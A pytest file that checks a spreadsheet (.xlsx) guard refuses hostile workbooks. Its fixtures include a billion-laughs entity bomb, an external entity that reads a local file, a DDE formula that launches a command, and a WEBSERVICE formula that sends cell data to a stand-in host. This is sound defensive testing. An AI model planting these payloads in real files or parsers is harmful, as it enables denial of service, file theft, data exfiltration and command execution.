"""Sheets and parts made to do harm (reliability 3.3, cases 4 to 10 and 18)."""

import zipfile

import pytest

from tests.workbooks.guarding import MEGABYTE, PLAIN_SHEET, inspect_within, refusal
from tests.workbooks.making import (
    RELATIONS,
    Xml,
    parts,
    people,
    person,
    read,
    save,
    sheet_xml,
)
from workbooks.guard import inspect


@pytest.mark.parametrize(
    ("reference", "code"),
    [
        ("XFD1048576", "too_many_columns"),
        ("A1048576", "far_cell"),
        ("BI1", "too_many_columns"),
    ],
)
def test_case_04_a_far_cell_is_refused(tmp_path, reference, code):
    row = reference.lstrip("ABCDEFGHIJKLMNOPQRSTUVWXYZ")
    rows = f'<row r="{row}"><c r="{reference}"><v>1</v></c></row>'
    path = save(tmp_path / "a.xlsx", parts(sheet_xml(rows)))

    refused = refusal(path)

    assert path.stat().st_size < 5000
    assert refused.code == code
    assert "请删除" in refused.message
    assert inspect_within(path, 20 * MEGABYTE) == f"refused {code}"


def test_case_05_a_dimension_that_claims_everything_changes_nothing(tmp_path):
    path = people(
        tmp_path / "a.xlsx", person(1), before='<dimension ref="A1:XFD1048576"/>'
    )

    assert inspect(path).sheets[0].rows == 2
    assert read(path).tally.data == 1


def test_case_06_a_dimension_that_is_too_small_loses_no_row(tmp_path):
    people_rows = [person(n, head=f"李{'甲乙丙丁戊己庚辛壬癸'[n]}") for n in range(10)]
    path = people(tmp_path / "a.xlsx", *people_rows, before='<dimension ref="A1:B3"/>')

    rows = list(read(path))

    assert [row.values["head"] for row in rows] == [row[1] for row in people_rows]
    assert not any(row.problems for row in rows)


def test_case_07_a_sheet_without_a_dimension_is_read(tmp_path):
    path = people(tmp_path / "a.xlsx", person(1), person(2))

    with zipfile.ZipFile(path) as package:
        assert b"<dimension" not in package.read("xl/worksheets/sheet1.xml")
    assert read(path).tally.data == 2


BILLION_LAUGHS = (
    '<!DOCTYPE lolz [<!ENTITY a "lol">'
    + "".join(f'<!ENTITY {chr(98 + i)} "{f"&{chr(97 + i)};" * 10}">' for i in range(9))
    + "]>"
)


def test_case_08_entities_that_expand_are_refused(tmp_path):
    rows = '<row r="1"><c r="A1" t="inlineStr"><is><t>&j;</t></is></c></row>'
    made = parts(sheet_xml(rows, prolog=BILLION_LAUGHS))
    path = save(tmp_path / "a.xlsx", made)

    refused = refusal(path)

    assert refused.code == "doctype"
    assert "DOCTYPE" in refused.message
    assert inspect_within(path, 20 * MEGABYTE) == "refused doctype"


def test_case_09_an_external_entity_is_refused_and_never_read(tmp_path):
    canary = tmp_path / "canary.txt"
    canary.write_text("canary-4711")
    prolog = f'<!DOCTYPE x [<!ENTITY c SYSTEM "file://{canary}">]>'
    rows = '<row r="1"><c r="A1" t="inlineStr"><is><t>&c;</t></is></c></row>'

    refused = refusal(save(tmp_path / "a.xlsx", parts(sheet_xml(rows, prolog=prolog))))

    assert refused.code == "doctype"
    assert "canary" not in refused.message


@pytest.mark.parametrize(
    "name",
    [
        "xl/sharedStrings.xml",
        "xl/styles.xml",
        "xl/workbook.xml",
        "xl/_rels/workbook.xml.rels",
        "_rels/.rels",
        "[Content_Types].xml",
        "docProps/core.xml",
        "xl/drawings/vmlDrawing1.vml",
    ],
)
def test_case_10_a_doctype_in_any_part_is_refused(tmp_path, name):
    made = parts(PLAIN_SHEET, shared="<si><t>x</t></si>", styles="<fonts/>")
    content = made.get(name, "<x/>")
    made[name] = '<!DOCTYPE x [<!ENTITY a "b">]>' + str(content)

    assert refusal(save(tmp_path / "a.xlsx", made)).code == "doctype"


@pytest.mark.parametrize(
    ("name", "code"),
    [
        ("xl/externalLinks/externalLink1.xml", "external_link"),
        ("xl/connections.xml", "external_link"),
        ("xl/embeddings/oleObject1.bin", "active_part"),
        ("xl/activeX/activeX1.xml", "active_part"),
        ("xl/macrosheets/sheet1.xml", "macro"),
    ],
)
def test_case_18_parts_that_fetch_or_run_are_refused(tmp_path, name, code):
    path = save(tmp_path / "a.xlsx", parts(PLAIN_SHEET) | {name: "<x/>"})

    refused = refusal(path)

    assert refused.code == code
    assert "请" in refused.message


@pytest.mark.parametrize(
    "formula",
    [
        "WEBSERVICE(&quot;http://x.example/&quot;&amp;A1)",
        "webservice (A1)",
        "cmd|&apos;/c calc&apos;!A0",
        "IMPORTDATA(A1)",
    ],
)
def test_case_18_formulas_that_fetch_are_refused(tmp_path, formula):
    evil = Xml(f'<c r="{{ref}}"><f>{formula}</f><v>1</v></c>')
    path = people(tmp_path / "a.xlsx", person(remark=evil))

    assert refusal(path).code == "fetching_formula"


def test_case_18_an_external_relation_is_refused_but_a_hyperlink_is_not(tmp_path):
    relations = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
        'relationships"><Relationship Id="rId1" TargetMode="External"'
        f' Type="{RELATIONS}/%s" Target="http://x.example/"/></Relationships>'
    )
    name = "xl/worksheets/_rels/sheet1.xml.rels"
    link = save(
        tmp_path / "a.xlsx", parts(PLAIN_SHEET) | {name: relations % "hyperlink"}
    )
    image = save(tmp_path / "b.xlsx", parts(PLAIN_SHEET) | {name: relations % "image"})

    assert inspect(link).sheets[0].rows == 2
    assert refusal(image).code == "external_link"
